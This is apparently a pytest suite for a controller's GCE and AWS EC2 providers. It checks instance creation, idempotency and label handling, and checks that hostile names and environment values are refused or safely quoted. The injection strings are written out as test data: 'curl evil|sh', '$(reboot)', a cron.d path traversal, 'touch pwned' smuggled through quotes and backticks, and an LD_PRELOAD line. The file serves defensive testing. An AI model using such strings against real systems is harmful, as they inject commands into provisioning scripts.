"""The cloud providers, each driving its real client library against a stand-in of the cloud's API:
google-cloud-compute against a local HTTP stand-in of the Compute REST API, boto3 against moto."""

from __future__ import annotations

import base64
import os
import re
import subprocess

import boto3
import pytest
from moto import mock_aws

from activities.act.providers import InstanceSpec, ProviderRefused, instance_env
from activities.act.providers.aws import Ec2Provider, user_data
from activities.act.providers.google_cloud import ComputeEngineProvider
from controller_gce_standin import ComputeStandIn
from activities.act.providers.settings import ProviderSettings

ENV = {"INSTANCE_ID": "analyzer-1", "SERVICE_NAME": "analyzer", "KAFKA_BOOTSTRAP_SERVERS": "10.0.0.5:9092",
       "MODEL_MODE": "fast"}
HOSTILE = "x;curl evil|sh;#"
#: names from a forged announcement: none may reach a cloud API
HOSTILE_SPECS = [
    InstanceSpec(f"{HOSTILE}-1", HOSTILE, ENV),
    InstanceSpec("analyzer-1;reboot", "analyzer", ENV),
    InstanceSpec("analyzer-$(reboot)", "analyzer", ENV),
    InstanceSpec("../../etc/cron.d/evil-1", "../../etc/cron.d/evil", ENV),
    InstanceSpec("notifier-1", "analyzer", ENV),  # another service's name
    InstanceSpec("Analyzer-1", "Analyzer", ENV),
    InstanceSpec("a" * 41 + "-1", "a" * 41, ENV),
]


def settings(**env: str) -> ProviderSettings:
    return ProviderSettings.from_env({"PROJECT_NAME": "siaga-test", "CLOUD_ZONE": "asia-southeast2-a",
                                      "IMAGE_NAME": "ghcr.io/siaga/{service}:1.0", "MACHINE_TYPE": "e2-small",
                                      "SERVICE_ACCOUNT": "scaler@siaga-test.iam.gserviceaccount.com", **env})


# ─── Google Compute Engine ─────────────────────────────────────────────────────────────────


@pytest.fixture
async def compute():
    standin = await ComputeStandIn().start()
    yield standin
    await standin.stop()


@pytest.fixture
def gce(compute) -> ComputeEngineProvider:
    return ComputeEngineProvider(settings(GCE_API_ENDPOINT=compute.endpoint))


async def test_gce_creates_a_container_vm_like_create_with_container(gce, compute):
    info = await gce.create(InstanceSpec("analyzer-1", "analyzer", ENV))
    assert (info.name, info.state) == ("analyzer-1", "running")
    (sent,) = [body for kind, _, body in compute.requests if kind == "insert"]
    assert sent["machineType"] == "zones/asia-southeast2-a/machineTypes/e2-small"
    assert sent["disks"][0]["initializeParams"]["sourceImage"] == "projects/cos-cloud/global/images/family/cos-stable"
    assert sent["labels"] == {"siaga-service": "analyzer", "siaga-managed": "true", "container-vm": "cos-stable"}
    assert sent["serviceAccounts"][0]["email"] == "scaler@siaga-test.iam.gserviceaccount.com"
    metadata = {item["key"]: item["value"] for item in sent["metadata"]["items"]}
    declaration = metadata["gce-container-declaration"]
    assert 'image: "ghcr.io/siaga/analyzer:1.0"' in declaration
    assert '- name: "KAFKA_BOOTSTRAP_SERVERS"\n      value: "10.0.0.5:9092"' in declaration
    assert "restartPolicy: Always" in declaration


async def test_gce_create_and_delete_are_idempotent_and_list_is_by_label(gce, compute):
    await gce.create(InstanceSpec("analyzer-1", "analyzer", ENV))
    await gce.create(InstanceSpec("analyzer-1", "analyzer", ENV))  # a retried create: 409, kept
    await gce.create(InstanceSpec("notifier-1", "notifier", ENV))
    assert len(compute.instances) == 2
    assert [i.name for i in await gce.list("analyzer")] == ["analyzer-1"]
    assert await gce.delete("analyzer-1") is True
    assert await gce.delete("analyzer-1") is False
    assert await gce.list("analyzer") == []
    assert list(compute.instances) == ["notifier-1"]


@pytest.mark.parametrize("spec", HOSTILE_SPECS, ids=lambda s: s.name)
async def test_gce_refuses_a_hostile_name_before_any_api_call(gce, compute, spec):
    with pytest.raises(ProviderRefused, match="refused"):
        await gce.create(spec)
    assert await gce.delete(spec.name, spec.service) is False
    assert await gce.list(spec.service) == []
    assert [kind for kind, _, _ in compute.requests if kind != "list"] == [] and compute.instances == {}


async def test_gce_maps_an_underscore_to_a_legal_vm_name_and_back(gce, compute):
    info = await gce.create(InstanceSpec("discord_bot-1", "discord_bot", ENV))
    (vm,) = compute.instances
    assert re.fullmatch(r"[a-z]([-a-z0-9]{0,61}[a-z0-9])?", vm) and vm.startswith("discord-bot-1-")
    await gce.create(InstanceSpec("discord-bot-1", "discord-bot", ENV))  # a service that differs only there
    assert len(compute.instances) == 2, "two services never share a VM"
    assert info.name == "discord_bot-1"
    assert [i.name for i in await gce.list("discord_bot")] == ["discord_bot-1"]
    assert await gce.delete("discord_bot-1") is True
    assert list(compute.instances) == ["discord-bot-1"]


# ─── AWS EC2 ───────────────────────────────────────────────────────────────────────────────


@pytest.fixture
def ec2():
    with mock_aws():
        client = boto3.client("ec2", region_name="ap-southeast-3")
        ami = client.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
        yield client, ami


def test_aws_runs_an_instance_that_starts_the_container(ec2):
    client, ami = ec2
    provider = Ec2Provider(settings(AWS_AMI_ID=ami, AWS_INSTANCE_TYPE="t3.small"), client)
    info = provider._create(InstanceSpec("analyzer-1", "analyzer", ENV))
    assert info.name == "analyzer-1" and info.service == "analyzer"
    (reservation,) = client.describe_instances()["Reservations"]
    (instance,) = reservation["Instances"]
    assert instance["InstanceType"] == "t3.small" and instance["ImageId"] == ami
    tags = {t["Key"]: t["Value"] for t in instance["Tags"]}
    assert tags == {"Name": "analyzer-1", "siaga-service": "analyzer", "siaga-managed": "true"}
    raw = client.describe_instance_attribute(InstanceId=instance["InstanceId"], Attribute="userData")
    script = base64.b64decode(raw["UserData"]["Value"]).decode()
    assert "docker run -d --restart=always --name analyzer-1" in script
    assert "ghcr.io/siaga/analyzer:1.0" in script and "KAFKA_BOOTSTRAP_SERVERS=10.0.0.5:9092" in script


def run_user_data(script: str, tmp_path) -> subprocess.CompletedProcess:
    """Run the script for real, with stand-ins for the commands that would change this machine."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for command in ("docker", "systemctl", "dnf", "yum", "apt-get"):
        (bin_dir / command).write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > "{tmp_path}/{command}.args"\n')
        (bin_dir / command).chmod(0o755)
    return subprocess.run(["bash", "-c", script], cwd=tmp_path, capture_output=True, text=True, timeout=30,
                          env={"PATH": f"{bin_dir}:{os.environ['PATH']}", "HOME": str(tmp_path)})


def test_aws_user_data_is_valid_bash_that_quotes_every_value(tmp_path):
    evil = {"MODEL_MODE": f"fast$(touch {tmp_path}/pwned)", "LOG_LEVEL": "INFO'; touch pwned; '",
            "OBSERVER_TOPIC": 'obs"`touch pwned`', "BATCH_SIZE": "5 SIAGA_ENV\tx", "WORKER_THREADS": "*"}
    script = user_data("analyzer-1", "ghcr.io/siaga/analyzer:1.0; touch pwned", evil, env_dir=str(tmp_path / "etc"))
    assert subprocess.run(["bash", "-n"], input=script, capture_output=True, text=True).returncode == 0
    ran = run_user_data(script, tmp_path)
    assert ran.returncode == 0, ran.stderr
    assert not list(tmp_path.rglob("pwned")), "a value ran as a command"
    written = (tmp_path / "etc" / "analyzer-1.env").read_text().splitlines()
    assert written == [f"{key}={value}" for key, value in sorted(evil.items())]
    docker = (tmp_path / "docker.args").read_text().splitlines()
    assert docker[-1] == "ghcr.io/siaga/analyzer:1.0; touch pwned" and docker[docker.index("--name") + 1] == "analyzer-1"


def test_aws_user_data_refuses_what_an_env_file_cannot_carry():
    with pytest.raises(ProviderRefused, match="line break"):
        user_data("analyzer-1", "image", {"MODEL_MODE": "fast\nLD_PRELOAD=/tmp/evil.so"})
    with pytest.raises(ProviderRefused, match="not a shell variable name"):
        user_data("analyzer-1", "image", {"X=1 LD_PRELOAD": "y"})


@pytest.mark.parametrize("spec", HOSTILE_SPECS, ids=lambda s: s.name)
async def test_aws_refuses_a_hostile_name_before_any_api_call(ec2, spec):
    client, ami = ec2
    provider = Ec2Provider(settings(AWS_AMI_ID=ami), client)
    with pytest.raises(ProviderRefused, match="refused"):
        await provider.create(spec)
    assert await provider.delete(spec.name, spec.service) is False
    assert await provider.list(spec.service) == []
    assert client.describe_instances()["Reservations"] == [], "moto saw an instance"


def test_aws_create_and_delete_are_idempotent_and_list_is_by_tag(ec2):
    client, ami = ec2
    provider = Ec2Provider(settings(AWS_AMI_ID=ami), client)
    first = provider._create(InstanceSpec("analyzer-1", "analyzer", ENV))
    again = provider._create(InstanceSpec("analyzer-1", "analyzer", ENV))
    provider._create(InstanceSpec("notifier-1", "notifier", ENV))
    assert first.name == again.name
    assert [i.name for i in provider._list("analyzer")] == ["analyzer-1"]
    running = [i for r in client.describe_instances()["Reservations"] for i in r["Instances"]]
    assert len(running) == 2, "a retried create must not make a second machine"
    assert provider._delete("analyzer-1") is True
    assert provider._delete("analyzer-1") is False
    assert provider._list("analyzer") == []
    assert [i.name for i in provider._list("notifier")] == ["notifier-1"]


def test_aws_without_an_ami_is_refused(ec2):
    client, _ = ec2
    with pytest.raises(ProviderRefused, match="AWS_AMI_ID"):
        Ec2Provider(settings(), client)._create(InstanceSpec("analyzer-1", "analyzer", ENV))


def test_cloud_instances_get_only_the_listed_variables():
    environ = {"MODEL_MODE": "fast", "FIREBASE_KEY": "secret", "OBSERVER_TOPIC": "observer"}
    env = instance_env(settings(INSTANCE_KAFKA_BOOTSTRAP_SERVERS="10.0.0.5:9092"), "analyzer", "analyzer-1", "AWS",
                       environ)
    assert env == {"MODEL_MODE": "fast", "OBSERVER_TOPIC": "observer", "INSTANCE_ID": "analyzer-1",
                   "SERVICE_NAME": "analyzer", "CLOUD_PROVIDER": "AWS", "KAFKA_BOOTSTRAP_SERVERS": "10.0.0.5:9092"}
